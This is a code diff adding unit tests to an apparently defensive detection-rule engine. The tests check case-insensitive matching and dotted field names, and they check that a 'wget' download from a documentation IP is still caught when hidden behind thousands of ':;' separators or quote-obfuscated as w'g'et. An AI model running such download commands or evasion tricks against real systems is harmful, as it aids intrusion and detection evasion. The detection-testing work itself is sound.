@@ -70,6 +70,58 @@ evidence_fields: [command_text]
     BOOST_TEST(tags(make_event("session", R"({"command_text":"find / -perm -4000"})")).empty());
 }
 
+BOOST_AUTO_TEST_CASE(letters_that_are_the_same_where_case_is_ignored_are_found) {
+    for (std::string const letter : {"i", "I", "\xc4\xb0", "\xc4\xb1"}) {
+        auto const e = command("W" + letter + "n");
+        BOOST_TEST(fires("{pattern: '^win$', ignore_case: true}", e), letter);
+        BOOST_TEST(fires("{pattern: '(?i)^w[h-j]n$'}", e), letter);
+        BOOST_TEST(fires("{equals: WiN, ignore_case: true}", e), letter);
+        BOOST_TEST(fires("{one_of: [x, win], ignore_case: true}", e), letter);
+        BOOST_TEST(fires("{contains: in, ignore_case: true}", e), letter);
+        BOOST_TEST(fires("{ends_with: in, ignore_case: true}", e), letter);
+        BOOST_TEST(fires("{starts_with: \"w\\u0131\", ignore_case: true}", e), letter);
+        BOOST_TEST(!fires("{equals: wan, ignore_case: true}", e), letter);
+    }
+}
+
+BOOST_AUTO_TEST_CASE(command_behind_thousands_of_parts_is_found) {
+    for (std::size_t const before : {255u, 512u, 5'000u, 30'000u}) {
+        std::string line;
+        for (std::size_t i = 0; i != before; ++i)
+            line += ":;";
+        BOOST_TEST(fires("{pattern: '^wget http'}", command(line + "wget http://198.51.100.7/x")), before);
+        BOOST_TEST(fires("{pattern: '^wget http'}", command(line + "w'g'et http://198.51.100.7/x")), before);
+        BOOST_TEST(fires("{starts_with: 'wget http'}", command(line + "wget http://198.51.100.7/x;" + line.substr(0, 1'000))), before);
+        BOOST_TEST(!fires("{pattern: '^wget http'}", command(line + "echo wget http://198.51.100.7/x")), before);
+    }
+}
+
+BOOST_AUTO_TEST_CASE(evidence_of_a_truncated_event_says_so) {
+    add(rule_matching("{pattern: wget}"));
+    auto e = command("wget x");
+    BOOST_TEST(!tags(e).at(0).evidence.contains("truncated"));
+    e.truncated = true;
+    BOOST_TEST(tags(e).at(0).evidence.at("truncated").as_bool());
+}
+
+BOOST_AUTO_TEST_CASE(field_whose_name_holds_dots_stands_in_quotes) {
+    add(definition_of(R"(
+rule_id: R1
+rule_version: 1
+name: dotted
+description: a member whose name holds dots
+applies_to: [http_request]
+match: {field: '"id.orig_h"', equals: 203.0.113.9}
+emits:
+  - {tactic: TA0001, technique_id: T1190, confidence: 0.9}
+evidence_fields: ['"id.orig_h"', 'a."b.c"']
+)"));
+    auto const found = tags(make_event("http_request", R"({"id.orig_h":"203.0.113.9","a":{"b.c":1}})"));
+    BOOST_REQUIRE_EQUAL(found.size(), 1u);
+    BOOST_TEST(boost::json::serialize(found[0].evidence) == R"({"id.orig_h":"203.0.113.9","a.\"b.c\"":1})");
+    BOOST_TEST(tags(make_event("http_request", R"({"id":{"orig_h":"203.0.113.9"}})")).empty());
+}
+
 BOOST_AUTO_TEST_CASE(event_without_identity_is_refused_with_the_reason) {
     evaluation result;
     auto e = command("ls");
